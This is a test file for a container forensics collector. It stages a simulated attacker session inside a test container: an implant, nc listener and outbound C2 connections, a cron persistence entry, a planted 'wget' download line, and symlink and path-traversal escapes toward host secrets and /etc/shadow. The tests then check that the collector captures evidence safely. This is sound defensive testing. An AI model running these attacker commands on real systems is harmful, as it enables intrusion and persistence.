import { createHash } from 'node:crypto';
import { mkdirSync, symlinkSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { extract } from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { collectContainer, MAX_LOG_FILES, type CollectResult } from '../../../src/collector/collect.js';
import { readProcess } from '../../../src/collector/processes.js';
import { LocalEvidenceStore } from '../../../src/evidence/local-store.js';
import { createRegistry } from '../../../src/observability/metrics.js';
import { freePort } from '../../testenv/ports.js';
import { startContainer, type TestContainer } from '../../testenv/runc.js';
import { heapMarker, implantBinary, memfdPayload } from './implant.js';

interface Json {
  [k: string]: unknown;
}

async function readAll(r: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const c of r) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
}

async function tarEntries(
  buf: Buffer,
): Promise<Map<string, { type: string; body: Buffer; devmajor?: number; devminor?: number }>> {
  const out = new Map<string, { type: string; body: Buffer; devmajor?: number; devminor?: number }>();
  const ex = extract();
  Readable.from([buf]).pipe(ex);
  for await (const entry of ex) {
    const chunks: Buffer[] = [];
    for await (const c of entry) chunks.push(c as Buffer);
    out.set(entry.header.name.replace(/\/$/, ''), {
      type: entry.header.type,
      body: Buffer.concat(chunks),
      devmajor: entry.header.devmajor,
      devminor: entry.header.devminor,
    });
  }
  return out;
}

function newStore(): { store: LocalEvidenceStore; dir: string } {
  const dir = mkdtempSync(join(tmpdir(), 'amber-evidence-'));
  return { store: new LocalEvidenceStore({ root: dir, registry: createRegistry() }), dir };
}

describe('collecting a container an attacker worked in', () => {
  let c: TestContainer;
  let server: Server;
  const held: Socket[] = [];
  let listenPort: number;
  let outboundPort: number;
  let result: CollectResult;
  let store: LocalEvidenceStore;
  let storeDir: string;
  let termLog: string;
  let prefix: string;
  let escapeDir: string;
  const artifact = async (name: string): Promise<Buffer> =>
    readAll(await store.get('case-attack', `${prefix}/${name}`));
  const json = async <T = Json>(name: string): Promise<T> =>
    JSON.parse((await artifact(name)).toString('utf8')) as T;

  beforeAll(async () => {
    escapeDir = mkdtempSync(join(tmpdir(), 'amber-escape-'));
    mkdirSync(join(escapeDir, 'alice'));
    writeFileSync(join(escapeDir, 'alice/.ash_history'), 'HOST SECRET\n');
    writeFileSync(join(escapeDir, 'id_rsa'), 'HOST SECRET\n');
    listenPort = await freePort();
    outboundPort = await freePort();
    // The attacker's command-and-control server, on the host's loopback: the container shares
    // the host network namespace (hostNetwork) so that it can reach 127.0.0.1.
    server = createServer((s) => held.push(s)).listen(outboundPort, '127.0.0.1');
    const script = [
      'cp /usr/bin/implant /tmp/x && /tmp/x & sleep 0.3; rm -f /tmp/x',
      `nc -l -p ${listenPort} &`,
      `sleep 600 | nc 127.0.0.1 ${outboundPort} &`,
      'echo "evil=1" > /etc/evil.conf',
      'rm /etc/secret-to-delete',
      'rm -rf /opt/data && mkdir /opt/data && echo new > /opt/data/new.txt',
      'echo "wget http://203.0.113.9/x" > /root/.ash_history',
      'echo "* * * * * /tmp/x" > /var/spool/cron/crontabs/root',
      'echo staged > /dev/shm/stage',
      // Planted symlinks that would make a naive host-side reader archive the host's files.
      `rmdir /home && ln -s ${escapeDir} /home`,
      `rm -rf /root/.ssh && ln -s ${escapeDir} /root/.ssh`,
      'touch /ready',
      'exec sleep 600',
    ].join('\n');
    c = await startContainer({
      command: ['/bin/sh', '-c', script],
      hostNetwork: true,
      files: {
        '/etc/secret-to-delete': 'image secret\n',
        '/etc/app.conf': 'app\n',
        '/opt/data/keep.txt': 'image data\n',
      },
      executables: { '/usr/bin/implant': implantBinary() },
    });
    await c.waitForFile('/ready');
    // Wait until both network processes are connected/listening.
    for (let i = 0; i < 100 && held.length === 0; i++) await new Promise((r) => setTimeout(r, 50));

    ({ store, dir: storeDir } = newStore());
    termLog = join(storeDir, 'termination-log');
    prefix = `containers/${c.id.slice(0, 12)}`;
    result = await collectContainer(
      {
        caseId: 'case-attack',
        containerId: c.id.slice(0, 12),
        runtime: 'runc',
        runtimeRoot: c.stateRoot,
        snapshotterRoots: c.layerRoots,
        node: 'test-node',
        hostReferencePid: process.pid,
        terminationMessagePath: termLog,
      },
      store,
      { registry: createRegistry() },
    );
  });

  afterAll(async () => {
    await c?.stop();
    for (const s of held) s.destroy();
    server?.close();
    if (storeDir) rmSync(storeDir, { recursive: true, force: true });
    if (escapeDir) rmSync(escapeDir, { recursive: true, force: true });
  });

  it('finds the container from its short ID in the runc state and reports success', () => {
    expect(result.ok).toBe(true);
    expect(result.container).toMatchObject({ id: c.id, runtime: 'runc', initPid: c.pid });
    const summary = JSON.parse(readFileSync(termLog, 'utf8')) as Json;
    expect(summary).toMatchObject({ ok: true, containerId: c.id, caseId: 'case-attack' });
    expect(readFileSync(termLog).length).toBeLessThan(4096);
  });

  it('copies the deleted dropped binary and the memfd it holds', async () => {
    const { processes } = await json<{
      processes: {
        pid: number;
        exe?: { path: string; deleted: boolean; artifact?: string; sha256?: string };
        fds?: { kind: string; target: string; artifact?: string }[];
      }[];
    }>('processes.json');
    const implant = processes.find((p) => p.exe?.path === '/tmp/x');
    expect(implant?.exe?.deleted).toBe(true);
    const binary = await readAll(await store.get('case-attack', implant?.exe?.artifact ?? 'missing'));
    expect(createHash('sha256').update(binary).digest('hex')).toBe(
      createHash('sha256').update(readFileSync(implantBinary())).digest('hex'),
    );
    const memfd = implant?.fds?.find((f) => f.kind === 'memfd');
    expect(memfd?.target).toBe('/memfd:payload (deleted)');
    expect((await readAll(await store.get('case-attack', memfd?.artifact ?? 'missing'))).toString()).toBe(
      memfdPayload,
    );
  });

  it('lists the listener and the outbound connection with their owning processes', async () => {
    const net = await json<{
      hostNetwork: boolean;
      inet: {
        state: string;
        localPort: number;
        remotePort: number;
        remoteAddress: string;
        owners: { comm: string }[];
      }[];
    }>('network.json');
    expect(net.hostNetwork).toBe(true);
    const listener = net.inet.find((s) => s.state === 'LISTEN' && s.localPort === listenPort);
    expect(listener?.owners.map((o) => o.comm)).toEqual(['nc']);
    const outbound = net.inet.find(
      (s) => s.state === 'ESTABLISHED' && s.remotePort === outboundPort && s.owners.length > 0,
    );
    expect(outbound?.remoteAddress).toBe('127.0.0.1');
    expect(outbound?.owners[0]?.comm).toBe('nc');
  });

  it('diffs the writable layer like docker diff, including a deleted image file and an opaque directory', async () => {
    const { changes, layout } = await json<{
      changes: { kind: string; path: string; opaque?: boolean }[];
      layout: { upperDir: string; lowerDirs: string[]; mountPoint: string };
    }>('filesystem/diff.json');
    // The layout is the host's mount at the runtime's rootfs, and the container's view agrees.
    expect(layout).toMatchObject({
      upperDir: c.upperDir,
      lowerDirs: c.lowerDir.split(':'),
      mountPoint: c.rootfs,
    });
    expect(result.report.skipped.map((s) => s.what)).not.toContain("the container's own mountinfo");
    const kinds = new Map(changes.map((ch) => [ch.path, ch.kind]));
    expect(kinds.get('/etc/evil.conf')).toBe('A');
    expect(kinds.get('/etc/secret-to-delete')).toBe('D');
    expect(kinds.get('/etc')).toBe('C');
    expect(kinds.get('/etc/app.conf')).toBeUndefined();
    expect(changes.find((ch) => ch.path === '/opt/data')).toMatchObject({ kind: 'C', opaque: true });
    expect(kinds.get('/opt/data/keep.txt')).toBe('D');
    expect(kinds.get('/opt/data/new.txt')).toBe('A');
    // Added and deleted in the container: no whiteout is left (the exe copy is what keeps it).
    expect(kinds.has('/tmp/x')).toBe(false);
  });

  it('exports the writable layer as a tar with whiteouts as 0:0 character devices', async () => {
    const entries = await tarEntries(await artifact('filesystem/writable-layer.tar'));
    expect(entries.get('etc/evil.conf')?.body.toString()).toBe('evil=1\n');
    expect(entries.get('etc/secret-to-delete')).toMatchObject({
      type: 'character-device',
      devmajor: 0,
      devminor: 0,
    });
    expect(entries.get('opt/data/new.txt')?.body.toString()).toBe('new\n');
  });

  it('copies shell history, crontabs and /dev/shm', async () => {
    const entries = await tarEntries(await artifact('filesystem/targeted.tar'));
    expect(entries.get('root/.ash_history')?.body.toString()).toContain('203.0.113.9');
    expect(entries.get('var/spool/cron/crontabs/root')?.body.toString()).toContain('/tmp/x');
    expect(entries.get('dev/shm/stage')?.body.toString()).toBe('staged\n');
  });

  it('archives planted symlinks as links and never follows them into the host', async () => {
    const entries = await tarEntries(await artifact('filesystem/targeted.tar'));
    expect(entries.get('root/.ssh')).toMatchObject({ type: 'symlink' });
    for (const [, e] of entries) expect(e.body.toString()).not.toContain('HOST SECRET');
    expect(result.report.failed.find((f) => f.what.endsWith('/home'))?.reason).toMatch(
      /symlink in the container/,
    );
  });

  it("dumps the implant's memory with its heap marker", async () => {
    const { processes } = await json<{ processes: { pid: number; exe?: { path: string } }[] }>(
      'processes.json',
    );
    const pid = processes.find((p) => p.exe?.path === '/tmp/x')?.pid;
    const dump = await artifact(`processes/${pid}/memory.bin`);
    expect(dump.includes(Buffer.from(heapMarker))).toBe(true);
    const index = await json<{ path: string; bytes: number; fileOffset: number }[]>(
      `processes/${pid}/memory-index.json`,
    );
    const heap = index.find((r) => r.path === '[heap]');
    expect(heap?.bytes).toBeGreaterThan(0);
    expect(
      dump
        .subarray(heap?.fileOffset, (heap?.fileOffset ?? 0) + (heap?.bytes ?? 0))
        .includes(Buffer.from(heapMarker)),
    ).toBe(true);
  });

  it('flags the host network namespace and records every artifact in the stored report', async () => {
    const exposure = await json<{ id: string; detail: string }[]>('exposure.json');
    expect(exposure.some((e) => e.id === 'host-namespace' && e.detail.includes('net'))).toBe(true);
    expect(exposure.some((e) => e.id === 'privileged')).toBe(false);
    const report = await json<{
      collected: { artifact: string; sha256: string }[];
      skipped: { what: string }[];
    }>('report.json');
    const listed = await store.list('case-attack');
    for (const a of report.collected)
      expect(listed.find((l) => l.name === a.artifact)?.sha256).toBe(a.sha256);
    expect(report.skipped.map((s) => s.what)).toEqual(expect.arrayContaining(['logs', 'checkpoint']));
  });
});

describe('exposure, lookup by cgroup, logs and checkpoints', () => {
  let c: TestContainer;
  let storeDir: string;
  let store: LocalEvidenceStore;
  let hostDir: string;
  let result: CollectResult;

  beforeAll(async () => {
    hostDir = mkdtempSync(join(tmpdir(), 'amber-host-'));
    writeFileSync(join(hostDir, 'docker.sock'), '');
    mkdirSync(join(hostDir, 'sa'));
    writeFileSync(join(hostDir, 'sa/token'), 'eyJhbGciOi...');
    const logs = join(hostDir, 'pods/shop_web-7d9f_0c5f0a7e-1111-2222-3333-444455556666');
    mkdirSync(join(logs, 'app'), { recursive: true });
    mkdirSync(join(logs, 'sidecar'), { recursive: true });
    writeFileSync(join(logs, 'app/0.log'), 'previous instance: attacker shell\n');
    writeFileSync(join(logs, 'app/1.log'), 'current instance\n');
    writeFileSync(join(logs, 'sidecar/0.log'), 'sidecar\n');
    mkdirSync(join(logs, 'app/2.log')); // unreadable as a file: must be a recorded gap
    // An earlier pod of the same name (a replaced StatefulSet replica) left its logs beside them.
    const earlier = join(hostDir, 'pods/shop_web-7d9f_99999999-1111-2222-3333-444455556666');
    mkdirSync(join(earlier, 'app'), { recursive: true });
    writeFileSync(join(earlier, 'app/0.log'), 'an earlier pod of the same name\n');
    writeFileSync(join(earlier, 'app/7.log'), 'an earlier pod of the same name\n');
    mkdirSync(join(hostDir, 'checkpoints'));
    writeFileSync(
      join(hostDir, 'checkpoints/checkpoint-web-7d9f_shop-app-2026-11-23T03:00:00Z.tar'),
      'checkpoint bytes',
    );
    // Planted beside it with the same prefix, later: only the archive the kubelet named is taken.
    writeFileSync(
      join(hostDir, 'checkpoints/checkpoint-web-7d9f_shop-app-2026-11-23T04:00:00Z.tar'),
      'planted',
    );

    c = await startContainer({
      command: ['/bin/sh', '-c', 'touch /ready; exec sleep 600'],
      allCapabilities: true,
      binds: [
        { source: join(hostDir, 'docker.sock'), destination: '/var/run/docker.sock' },
        {
          source: join(hostDir, 'sa'),
          destination: '/var/run/secrets/kubernetes.io/serviceaccount',
          readonly: true,
        },
      ],
    });
    await c.waitForFile('/ready');
    ({ store, dir: storeDir } = newStore());
    result = await collectContainer(
      {
        caseId: 'case-exposure',
        containerId: `containerd://${c.id.slice(0, 12)}`,
        runtime: 'auto',
        namespace: 'shop',
        pod: 'web-7d9f',
        podUid: '0c5f0a7e-1111-2222-3333-444455556666',
        containerName: 'app',
        podLogsRoot: join(hostDir, 'pods'),
        checkpointsRoot: join(hostDir, 'checkpoints'),
        checkpoint: {
          archive: join(hostDir, 'checkpoints/checkpoint-web-7d9f_shop-app-2026-11-23T03:00:00Z.tar'),
        },
        groups: ['processes', 'network', 'logs', 'checkpoint'],
        hostReferencePid: process.pid,
        terminationMessagePath: null,
      },
      store,
      { registry: createRegistry() },
    );
  });

  afterAll(async () => {
    await c?.stop();
    if (hostDir) rmSync(hostDir, { recursive: true, force: true });
    if (storeDir) rmSync(storeDir, { recursive: true, force: true });
  });

  it('finds a container no runtime state names by scanning cgroups for its short ID', () => {
    expect(result.container).toMatchObject({ id: c.id, via: 'cgroup scan', initPid: c.pid });
  });

  it('flags a privileged container with a runtime socket and a service account token, in its own network', async () => {
    const prefix = `containers/${c.id.slice(0, 12)}`;
    const exposure = JSON.parse(
      (await readAll(await store.get('case-exposure', `${prefix}/exposure.json`))).toString(),
    ) as { id: string; detail: string }[];
    const ids = exposure.map((e) => e.id);
    expect(ids).toContain('privileged');
    expect(exposure.find((e) => e.id === 'runtime-socket')?.detail).toContain('/var/run/docker.sock');
    expect(ids).toContain('service-account-token');
    expect(exposure.some((e) => e.id === 'host-namespace' && e.detail.includes(' net '))).toBe(false);
    const net = JSON.parse(
      (await readAll(await store.get('case-exposure', `${prefix}/network.json`))).toString(),
    ) as { hostNetwork: boolean };
    expect(net.hostNetwork).toBe(false);
  });

  it('attack: a pod log directory that links elsewhere on the host is never followed', async () => {
    // Root on the node points the suspect's log directory (or the pod's) at a host directory
    // holding files named like logs: nothing of it may be copied as the suspect's.
    const secret = join(hostDir, 'host-secrets');
    mkdirSync(join(secret, 'app'), { recursive: true });
    writeFileSync(join(secret, '0.log'), 'HOST SECRET\n');
    writeFileSync(join(secret, 'app/0.log'), 'HOST SECRET\n');
    const podDir = 'shop_web-7d9f_0c5f0a7e-1111-2222-3333-444455556666';
    const containerLink = join(hostDir, 'pods-container-link', podDir);
    mkdirSync(containerLink, { recursive: true });
    symlinkSync(secret, join(containerLink, 'app'));
    mkdirSync(join(hostDir, 'pods-pod-link'));
    symlinkSync(secret, join(hostDir, 'pods-pod-link', podDir));
    for (const root of ['pods-container-link', 'pods-pod-link']) {
      const caseId = `case-${root}`;
      const r = await collectContainer(
        {
          caseId,
          containerId: `containerd://${c.id.slice(0, 12)}`,
          runtime: 'auto',
          namespace: 'shop',
          pod: 'web-7d9f',
          podUid: '0c5f0a7e-1111-2222-3333-444455556666',
          containerName: 'app',
          podLogsRoot: join(hostDir, root),
          groups: ['logs'],
          hostReferencePid: process.pid,
          terminationMessagePath: null,
        },
        store,
        { registry: createRegistry() },
      );
      const names = (await store.list(caseId)).map((a) => a.name);
      expect(
        names.filter((n) => n.includes('/logs/')),
        root,
      ).toEqual([]);
      expect(r.report.failed.map((f) => f.reason).join('\n'), root).toMatch(/symlink/);
    }
  });

  it('attack: a log directory flooded with files gets the first MAX_LOG_FILES copied and the rest recorded', async () => {
    // The kubelet keeps a few files per container; root on the node can write thousands.
    const dir = join(hostDir, 'pods-flood', 'shop_web-7d9f_0c5f0a7e-1111-2222-3333-444455556666', 'app');
    mkdirSync(dir, { recursive: true });
    for (let i = 0; i < MAX_LOG_FILES + 8; i++) writeFileSync(join(dir, `${i}.log`), `line ${i}\n`);
    const r = await collectContainer(
      {
        caseId: 'case-log-flood',
        containerId: `containerd://${c.id.slice(0, 12)}`,
        runtime: 'auto',
        namespace: 'shop',
        pod: 'web-7d9f',
        podUid: '0c5f0a7e-1111-2222-3333-444455556666',
        containerName: 'app',
        podLogsRoot: join(hostDir, 'pods-flood'),
        groups: ['logs'],
        hostReferencePid: process.pid,
        terminationMessagePath: null,
      },
      store,
      { registry: createRegistry() },
    );
    const logs = (await store.list('case-log-flood')).map((a) => a.name).filter((n) => n.includes('/logs/'));
    expect(logs).toHaveLength(MAX_LOG_FILES);
    expect(r.report.skipped.find((s) => s.what === 'pod logs')?.reason).toBe(
      `${MAX_LOG_FILES + 8} log files: the first ${MAX_LOG_FILES} are copied`,
    );
  });

  it("collects the container's current and previous logs and its checkpoint, and records the unreadable one", async () => {
    const prefix = `containers/${c.id.slice(0, 12)}`;
    const names = (await store.list('case-exposure')).map((a) => a.name);
    expect(names).toContain(`${prefix}/logs/app/0.log`);
    expect(names).toContain(`${prefix}/logs/app/1.log`);
    expect(names.some((n) => n.includes('sidecar'))).toBe(false);
    // The pinned UID's directory only: nothing of the earlier pod of the same name.
    expect(names.some((n) => n.endsWith('/logs/app/7.log'))).toBe(false);
    expect((await readAll(await store.get('case-exposure', `${prefix}/logs/app/0.log`))).toString()).toBe(
      'previous instance: attacker shell\n',
    );
    expect(names).toContain(`${prefix}/checkpoint/checkpoint-web-7d9f_shop-app-2026-11-23T03_00_00Z.tar`);
    // The planted archive with a matching prefix is not taken.
    expect(names.filter((n) => n.includes('/checkpoint/'))).toEqual([
      `${prefix}/checkpoint/checkpoint-web-7d9f_shop-app-2026-11-23T03_00_00Z.tar`,
      `${prefix}/checkpoint/checkpoint-web-7d9f_shop-app-2026-11-23T03_00_00Z.tar.summary.json`,
    ]);
    const summary = JSON.parse(
      (
        await readAll(
          await store.get(
            'case-exposure',
            `${prefix}/checkpoint/checkpoint-web-7d9f_shop-app-2026-11-23T03_00_00Z.tar.summary.json`,
          ),
        )
      ).toString(),
    ) as { archive: { size: number }; problems: string[] };
    expect(summary.archive.size).toBe('checkpoint bytes'.length);
    expect(summary.problems.join('; ')).toMatch(/tar|pstree/);
    expect(result.report.failed.find((f) => f.what.endsWith('app/2.log'))?.reason).toMatch(
      /is a directory.*not read/,
    );
    expect(result.report.skipped.map((s) => s.what)).toContain('memory');
  });
  it('refuses an archive path out of the checkpoints directory, and a planted symlink with the right name', async () => {
    const dir = join(hostDir, 'checkpoints');
    const link = 'checkpoint-web-7d9f_shop-app-2026-11-23T05:00:00Z.tar';
    symlinkSync('/etc/shadow', join(dir, link));
    const attempts = [
      `${dir}/../pods/shop_web-7d9f_0c5f0a7e-1111-2222-3333-444455556666/app/1.log`,
      '/etc/shadow',
      join(dir, link),
    ];
    const reasons: string[] = [];
    for (const [i, archive] of attempts.entries()) {
      const r = await collectContainer(
        {
          caseId: `case-checkpoint-attack-${i}`,
          containerId: `containerd://${c.id.slice(0, 12)}`,
          namespace: 'shop',
          pod: 'web-7d9f',
          containerName: 'app',
          checkpointsRoot: dir,
          checkpoint: { archive },
          groups: ['checkpoint'],
          hostReferencePid: process.pid,
          terminationMessagePath: null,
        },
        store,
        { registry: createRegistry() },
      );
      const names = (await store.list(`case-checkpoint-attack-${i}`)).map((a) => a.name);
      expect(names.filter((n) => n.includes('/checkpoint/'))).toEqual([]);
      reasons.push(r.report.failed.find((f) => f.what.startsWith('checkpoint'))?.reason ?? '(none)');
    }
    expect(reasons[0]).toMatch(/refused: .*"\.\." component/);
    expect(reasons[1]).toMatch(/refused: "\/etc\/shadow" is not directly in/);
    expect(reasons[2]).toMatch(/is a symlink.*not read/);
  });
});

describe('bad input', () => {
  it('reports an unknown container ID as a clear failure, with a stored report and a termination message', async () => {
    const { store, dir } = newStore();
    try {
      const termLog = join(dir, 'term');
      const r = await collectContainer(
        {
          caseId: 'case-missing',
          containerId: 'deadbeefcafe',
          runtime: 'runc',
          runtimeRoot: join(dir, 'no-such-root'),
          terminationMessagePath: termLog,
        },
        store,
        { registry: createRegistry() },
      );
      expect(r.ok).toBe(false);
      expect(r.report.failed[0]?.reason).toMatch(
        /container deadbeefcafe not found: no state under .*no-such-root/,
      );
      expect(r.reportArtifact?.name).toBe('containers/deadbeefcafe/report.json');
      expect(JSON.parse(readFileSync(termLog, 'utf8'))).toMatchObject({
        ok: false,
        fatal: expect.stringMatching(/not found/),
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('rejects a malformed ID without touching the store beyond its report', async () => {
    const { store, dir } = newStore();
    try {
      const r = await collectContainer(
        { caseId: 'case-bad', containerId: '../../etc', terminationMessagePath: null },
        store,
        { registry: createRegistry() },
      );
      expect(r.ok).toBe(false);
      expect(r.report.failed[0]?.reason).toMatch(/invalid container ID/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('records a process that is gone instead of failing', async () => {
    const p = await readProcess('/proc', 2 ** 22 + 12345, undefined);
    expect(p.errors.stat).toMatch(/ENOENT/);
    expect(p.cmdline).toBeUndefined();
  });

  it('collects a container whose processes come and go during collection', async () => {
    const c = await startContainer({
      command: ['/bin/sh', '-c', 'touch /ready; while true; do sleep 0.01; done'],
    });
    const { store, dir } = newStore();
    try {
      await c.waitForFile('/ready');
      const r = await collectContainer(
        {
          caseId: 'case-churn',
          containerId: c.id,
          runtime: 'runc',
          runtimeRoot: c.stateRoot,
          groups: ['processes', 'network', 'memory'],
          hostReferencePid: process.pid,
          terminationMessagePath: null,
        },
        store,
        { registry: createRegistry() },
      );
      expect(r.ok).toBe(true);
      expect(r.report.collected.map((a) => a.artifact)).toContain(
        `containers/${c.id.slice(0, 12)}/processes.json`,
      );
      // Any short-lived sleep that vanished mid-way is a recorded gap, never an exception.
      for (const f of r.report.failed)
        expect(f.reason).toMatch(/ENOENT|ESRCH|exited|unmapped|no memory map|EIO|read failed/);
    } finally {
      await c.stop();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
